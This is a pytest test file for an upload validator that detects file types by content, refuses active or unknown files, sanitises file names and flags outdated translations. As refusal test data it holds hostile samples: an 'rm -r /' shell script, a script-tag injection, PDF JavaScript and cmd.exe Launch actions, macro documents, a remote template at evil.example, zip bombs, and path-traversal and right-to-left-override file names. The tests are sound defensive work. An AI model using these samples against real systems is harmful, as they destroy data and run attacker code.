"""Which files are taken, by what is in them; their names; which translations are out of date."""

import zipfile
from datetime import UTC, datetime, timedelta
from io import BytesIO

import pytest

from assembly.agenda.documents import rules
from assembly.agenda.documents.rules import FileProblem, FileRefused, FileType, file_name, file_type, is_owed, states
from assembly.texts import TextState
from tests.factories.documents import PDF, PNG, office, open_document, packed

INDEX = "[Content_Types].xml"
MONDAY = datetime(2026, 11, 2, 9, tzinfo=UTC)


@pytest.mark.parametrize(
    ("content", "name", "expected"),
    [
        (PDF, "a.exe", FileType.PDF),
        (PNG, "a.html", FileType.PNG),
        (b"\xff\xd8\xff\xe0" + bytes(9), "a", FileType.JPEG),
        (office(), "a.docx", FileType.DOCX),
        (office("spreadsheetml.sheet.main+xml"), "a.docx", FileType.XLSX),
        (office("presentationml.presentation.main+xml"), "a", FileType.PPTX),
        (
            packed({INDEX: b"spreadsheetml.sheet.main+xml", "xl/printerSettings1.bin": b""}),
            "a",
            FileType.XLSX,
        ),
        (open_document(), "a.odt", FileType.ODT),
        (open_document("presentation"), "a.odt", FileType.ODP),
        ("Ordre du jour : été\n".encode(), "a.txt", FileType.TEXT),
        (b"\xef\xbb\xbfname;seats\r\nA;2\r\n", "a.csv", FileType.CSV),
    ],
)
def test_the_content_tells_the_type_whatever_the_name_says(content: bytes, name: str, expected: FileType) -> None:
    assert file_type(content, name) is expected


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (b"", FileProblem.EMPTY),
        (b"MZ\x90\x00\x03", FileProblem.KIND),
        (b"\x7fELF\x02\x01", FileProblem.KIND),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 old Word, in which macros cannot be seen", FileProblem.KIND),
        (b"GIF89a" + b"\xff" * 8, FileProblem.KIND),
        (b"<!DOCTYPE html><p>x", FileProblem.ACTIVE),
        (b"  <svg xmlns='http://www.w3.org/2000/svg'/>", FileProblem.ACTIVE),
        (b"\xef\xbb\xbf<?xml version='1.0'?><x/>", FileProblem.ACTIVE),
        (b"some text, then\n< ScRiPt>alert(1)</script>", FileProblem.ACTIVE),
        (b"#!/bin/sh\nrm -r /\n", FileProblem.ACTIVE),
        (PDF + b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", FileProblem.ACTIVE),
        (PDF + b"<< /S /Launch /F (cmd.exe) >>", FileProblem.ACTIVE),
        (
            packed({INDEX: b"wordprocessingml.document.main+xml", "word/vbaProject.bin": b""}),
            FileProblem.ACTIVE,
        ),
        (
            packed({INDEX: b"application/vnd.ms-word.document.macroEnabled.main+xml"}),
            FileProblem.ACTIVE,
        ),
        (packed({INDEX: b"", "word/embeddings/oleObject1.bin": b""}), FileProblem.ACTIVE),
        (open_document(Basic__Standard__Module1=b""), FileProblem.ACTIVE),
        (packed({"mimetype": b"application/epub+zip"}), FileProblem.KIND),
        (packed({"payload.exe": b"MZ"}), FileProblem.ACTIVE),
        (packed({"readme.txt": b"hello"}), FileProblem.KIND),
        (b"PK\x03\x04 and nothing more", FileProblem.KIND),
    ],
)
def test_what_could_run_or_is_not_known_is_refused(content: bytes, problem: FileProblem) -> None:
    with pytest.raises(FileRefused) as refused:
        file_type(content, "a.pdf")
    assert refused.value.problem is problem


def test_a_template_from_elsewhere_whose_macros_would_run_is_refused() -> None:
    relations = b'<Relationship Type=".../attachedTemplate" Target="https://evil.example/x.dotm"/>'
    content = packed(
        {
            INDEX: b"wordprocessingml.document.main+xml",
            "word/_rels/settings.xml.rels": relations,
        }
    )
    with pytest.raises(FileRefused) as refused:
        file_type(content)
    assert refused.value.problem is FileProblem.ACTIVE


def test_what_unpacks_to_too_much_or_is_too_large_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rules, "LARGEST_UNPACKED", 10_000)
    with pytest.raises(FileRefused) as refused:
        file_type(office(word__document=bytes(20_000)))
    assert refused.value.problem is FileProblem.BOMB
    monkeypatch.setattr(rules, "LARGEST_FILE", 20)
    with pytest.raises(FileRefused) as refused:
        file_type(PDF)
    assert refused.value.problem is FileProblem.TOO_LARGE


def test_an_index_that_lies_about_its_size_is_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rules, "LARGEST_INDEX", 1_000)
    content = BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr(INDEX, b" " * 50_000)
    with pytest.raises(FileRefused) as refused:
        file_type(content.getvalue())
    assert refused.value.problem is FileProblem.BOMB


@pytest.mark.parametrize(
    ("typed", "saved"),
    [
        ("Проект рамочной программы.docx", "Проект рамочной программы.pdf"),
        ("..\\..\\windows\\system.exe", "system.pdf"),
        ("/etc/passwd", "passwd.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.pdf"),
        ("", "document.pdf"),
        ("...", "document.pdf"),
    ],
)
def test_a_name_keeps_its_script_and_loses_its_tricks(typed: str, saved: str) -> None:
    assert file_name(typed, FileType.PDF) == saved


def test_a_translation_is_stale_once_the_original_was_replaced_after_it() -> None:
    day = timedelta(days=1)
    added = {"en": MONDAY + day, "fr": MONDAY, "es": MONDAY + 2 * day}
    assert states(added, ["en", "fr", "es", "ru"], "en") == {
        "en": TextState.COMPLETE,
        "fr": TextState.STALE,
        "es": TextState.COMPLETE,
        "ru": TextState.MISSING,
    }


def test_a_paper_is_owed_while_it_has_a_deadline_and_no_file() -> None:
    assert is_owed(MONDAY, 0)
    assert not is_owed(MONDAY, 1)
    assert not is_owed(None, 0)
